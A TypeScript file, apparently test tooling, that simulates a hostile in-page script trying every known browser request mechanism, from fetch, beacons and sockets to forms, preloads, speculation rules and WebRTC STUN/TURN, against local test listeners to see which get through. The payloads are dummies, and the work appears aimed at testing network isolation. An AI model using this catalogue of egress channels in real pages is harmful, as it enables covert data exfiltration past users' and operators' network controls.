/** Where a hostile script tries to get to. */
export interface Targets {
  /** An address of this machine, with a UDP and a TCP port that listen there. */
  readonly host: string;
  readonly udp: number;
  readonly tcp: number;
  /** A domain under which each way asks for a name of its own. */
  readonly domain: string;
}

/**
 * A hostile script in the page: makes every kind of request that a browser is known to make, to an address and to a name.
 * Runs in the page, so it stands alone. Settles when nothing of it is under way any more; tells which ways threw at once.
 */
export async function requestEveryWay({ host, tcp, domain }: Targets): Promise<string[]> {
  const refused: string[] = [];
  const attempts: Promise<unknown>[] = [];
  const ways: [string, (url: string) => unknown][] = [];
  const within = <T>(ms: number, work: Promise<T>): Promise<T | string> =>
    Promise.race([work, new Promise<string>(resolve => setTimeout(() => resolve('late'), ms))]);
  const add = <K extends keyof HTMLElementTagNameMap>(tag: K, set: Partial<HTMLElementTagNameMap[K]>) => {
    const element = Object.assign(document.createElement(tag), set);
    document.body.append(element);
    return element;
  };
  const link = (rel: string) => (href: string) => {
    const element = Object.assign(document.createElement('link'), { rel, href });
    if (rel === 'preload') element.setAttribute('as', 'image');
    document.head.append(element);
  };
  const settled = (event: string, target: EventTarget): Promise<unknown> =>
    new Promise(resolve => {
      target.addEventListener(event, resolve);
      target.addEventListener('error', resolve);
    });

  for (const rel of [
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'prerender',
    'preload',
    'modulepreload',
    'stylesheet',
    'icon',
    'manifest',
  ]) {
    ways.push([rel, link(rel)]);
  }
  ways.push(
    ['fetch', url => fetch(url, { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => 'refused')],
    ['keepalive', url => fetch(url, { mode: 'no-cors', keepalive: true }).catch(() => 'refused')],
    [
      'xhr',
      url => {
        const request = new XMLHttpRequest();
        request.open('GET', url);
        request.send();
        return settled('load', request);
      },
    ],
    ['beacon', url => navigator.sendBeacon(url, 'x')],
    ['socket', url => settled('open', new WebSocket(url.replace('http', 'ws')))],
    ['events', url => settled('open', new EventSource(url))],
    ['transport', url => new WebTransport(url.replace('http:', 'https:')).ready.catch(() => 'refused')],
    ['img', url => settled('load', add('img', { src: url }))],
    ['video', url => settled('loadeddata', add('video', { src: url }))],
    ['script', url => settled('load', add('script', { src: url }))],
    ['frame', url => add('iframe', { src: url })],
    ['object', url => add('object', { data: url })],
    ['embed', url => add('embed', { src: url })],
    ['style', url => new CSSStyleSheet().replace(`@import url(${url})`)],
    ['background', url => document.body.style.setProperty('background-image', `url(${url})`)],
    ['font', url => new FontFace('x', `url(${url})`).load().catch(() => 'refused')],
    ['worker', url => new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`])))],
    [
      'speculation',
      url =>
        add('script', {
          type: 'speculationrules',
          textContent: JSON.stringify({
            prefetch: [{ urls: [url] }],
            prerender: [{ urls: [url] }],
          }),
        }),
    ],
    ['form', url => add('form', { action: url, method: 'post' }).submit()],
    ['form elsewhere', url => add('form', { action: url, target: '_blank' }).submit()],
    ['ping', url => add('a', { href: '#', ping: url }).click()],
    ['download', url => add('a', { href: url, download: 'x' }).click()],
    ['window', url => window.open(url)],
    [
      'window of a frame',
      url => {
        const { contentWindow } = add('iframe', {});
        contentWindow?.open(url);
      },
    ],
    [
      'fetch of a frame',
      url => {
        const { contentWindow } = add('iframe', {});
        return contentWindow?.fetch(url, { mode: 'no-cors' }).catch(() => 'refused');
      },
    ],
    [
      'meta',
      url =>
        document.head.append(
          Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}` }),
        ),
    ],
    ['location', url => location.assign(url)],
    [
      'payment',
      url =>
        new PaymentRequest([{ supportedMethods: url.replace('http:', 'https:') }], {
          total: { label: 'x', amount: { currency: 'USD', value: '1' } },
        })
          .canMakePayment()
          .catch(() => 'refused'),
    ],
  );

  /** These leave the page where nothing stops them, so they come last. */
  const leaving = ['form', 'download', 'meta', 'location'];
  for (const leaves of [false, true]) {
    for (const [way, go] of ways.filter(([way]) => leaving.includes(way) === leaves)) {
      for (const at of [host, `${way.replaceAll(' ', '-')}.${domain}`]) {
        try {
          attempts.push(
            within(8_000, Promise.resolve(go(`http://${at}:${tcp}/${way.replaceAll(' ', '-')}`))),
          );
        } catch (error) {
          refused.push(`${way}: ${String(error)}`);
        }
        // The next would call it off.
        if (leaves) await new Promise(resolve => setTimeout(resolve, 200));
      }
    }
    await Promise.allSettled(attempts);
  }
  return refused;
}

/**
 * A hostile script in the page: has WebRTC ask for its own address, by STUN and by TURN over UDP, TCP and TLS; `framed`
 * takes the connection's class from an empty frame instead. Runs in the page, so it stands alone.
 */
export async function askByPeers({ host, udp, tcp, domain, framed }: Targets & { readonly framed: boolean }) {
  const relay = { username: 'a', credential: 'b' };
  const servers = (at: (way: string) => string): RTCIceServer[] => [
    { urls: `stun:${at('stun')}:${udp}` },
    { urls: `turn:${at('turn')}:${udp}`, ...relay },
    { urls: `turn:${at('turn-tcp')}:${tcp}?transport=tcp`, ...relay },
    { urls: `turns:${at('turns')}:${tcp}`, ...relay },
  ];
  const frame = document.body.appendChild(document.createElement('iframe'));
  const from = (framed ? frame.contentWindow : window) as Window & typeof globalThis;
  const gather = async (iceServers: RTCIceServer[]): Promise<void> => {
    const connection = new from.RTCPeerConnection({ iceServers });
    connection.createDataChannel('x');
    const complete = new Promise<void>(resolve => {
      connection.onicegatheringstatechange = () => {
        if (connection.iceGatheringState === 'complete') resolve();
      };
      setTimeout(resolve, 6_000);
    });
    await connection.setLocalDescription();
    await complete;
    connection.close();
  };
  await Promise.allSettled([gather(servers(() => host)), gather(servers(way => `${way}.${domain}`))]);
}
